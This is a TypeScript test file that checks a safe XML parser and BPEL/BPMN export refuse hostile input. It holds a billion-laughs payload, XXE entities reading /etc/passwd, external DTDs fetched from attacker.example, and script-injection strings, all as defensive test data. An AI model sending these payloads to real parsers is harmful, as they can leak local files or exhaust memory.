import { MalformedXmlError, XmlSecurityError } from '../../src/interchange';
import type { Blueprint } from '../../src/core/model/blueprint';
import { exportBpel } from '../../src/interchange/bpel/exportBpel';
import { importBpel } from '../../src/interchange/bpel/importBpel';
import { exportBpmn } from '../../src/interchange/bpmn/exportBpmn';
import { parseXmlSafely } from '../../src/interchange/xml/safeXml';
import { writeXml } from '../../src/interchange/xml/writeXml';

function failure(run: () => unknown): unknown {
  try {
    run();
  } catch (error) {
    return error;
  }
  throw new Error('expected the input to be refused');
}

function reason(xml: string): string {
  const error = failure(() => parseXmlSafely(xml));
  expect(error).toBeInstanceOf(XmlSecurityError);
  return (error as XmlSecurityError).reason;
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

describe('hostile XML corpus', () => {
  it('billion laughs: refused at the DOCTYPE, nothing expanded', () => {
    expect(reason(BILLION_LAUGHS)).toBe('doctype');
  });

  it('external entity (file:///etc/passwd): refused', () => {
    expect(reason('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<r>&xxe;</r>')).toBe('doctype');
  });

  it('external DTD and parameter entities: refused', () => {
    expect(reason('<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>')).toBe('doctype');
    expect(reason('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>')).toBe('doctype');
  });

  it('a DOCTYPE with an internal subset, in lower case, after a comment: refused', () => {
    expect(reason('<!-- innocent --><!doctype r [<!ELEMENT r ANY>]><r/>')).toBe('doctype');
  });

  it('an entity reference without any declaration is malformed, not expanded', () => {
    const error = failure(() => parseXmlSafely('<r>&xxe;</r>'));
    expect(error).toBeInstanceOf(MalformedXmlError);
    expect((error as MalformedXmlError).detail).toBe('the entity "&xxe;" is not declared (only &lt; &gt; &amp; &quot; &apos; are allowed)');
  });

  it('10,000-deep nesting: refused against the default depth of 256', () => {
    expect(reason('<a>'.repeat(10000) + '</a>'.repeat(10000))).toBe('too-deep');
  });

  it('a 50 MB document generated in memory: refused against the default 10 MB', () => {
    const item = '<item value="0123456789abcdef"/>';
    const big = `<log>${item.repeat(Math.ceil((50 * 1024 * 1024) / item.length))}</log>`;
    expect(big.length).toBeGreaterThan(50 * 1024 * 1024);
    expect(reason(big)).toBe('too-large');
  });

  it('binary garbage: refused as not text', () => {
    const bytes = Array.from({ length: 512 }, (_, i) => String.fromCharCode((i * 73 + 11) % 256)).join('');
    expect(reason(bytes)).toBe('binary-input');
    expect(reason('PK\u0003\u0004<not-a-zip/>')).toBe('binary-input');
  });

  it('names that would pollute prototypes: refused', () => {
    expect(reason('<r><__proto__/></r>')).toBe('reserved-name');
  });

  it('XInclude is an ordinary element: nothing is fetched', () => {
    const root = parseXmlSafely('<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></r>');
    expect(root.children[0]).toEqual({
      name: 'include',
      namespace: 'http://www.w3.org/2001/XInclude',
      attributes: { href: 'file:///etc/passwd' },
      children: [],
      text: '',
      line: 1
    });
  });

  it('script in names: read as inert text and escaped again on export', () => {
    const root = parseXmlSafely('<r n="&lt;script&gt;alert(1)&lt;/script&gt;">&lt;img onerror=x&gt;</r>');
    expect([root.attributes.n, root.text]).toEqual(['<script>alert(1)</script>', '<img onerror=x>']);
    expect(writeXml({ name: 'r', attributes: { n: root.attributes.n }, text: root.text })).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n<r n="&lt;script&gt;alert(1)&lt;/script&gt;">&lt;img onerror=x&gt;</r>\n'
    );
  });

  it('script in blueprint names survives BPEL export and import as text, and never appears as markup', () => {
    const script = '<script>alert("x")</script>';
    const blueprint: Blueprint = {
      id: 'b',
      name: script,
      version: 1,
      status: 'draft',
      roles: [
        { id: 'ae', name: script, side: 'internal' },
        { id: 'c', name: 'Champion', side: 'customer' }
      ],
      stages: [{ id: 's', name: script, order: 1, exitCriteria: { minSellingActions: 0, minBuyingActions: 0 } }],
      transactions: [{ id: 't', sequence: 1, from: 'ae', to: 'c', deliverable: script, kind: 'tangible', stage: 's', required: true, precededBy: [], minCount: 1 }]
    };
    const { bpel, wsdl } = exportBpel(blueprint);
    const bpmn = exportBpmn(blueprint);
    for (const text of [bpel, wsdl, bpmn]) {
      expect(text).not.toMatch(/<script/i);
    }
    expect(importBpel(bpel)).toStrictEqual(blueprint);
  });
});
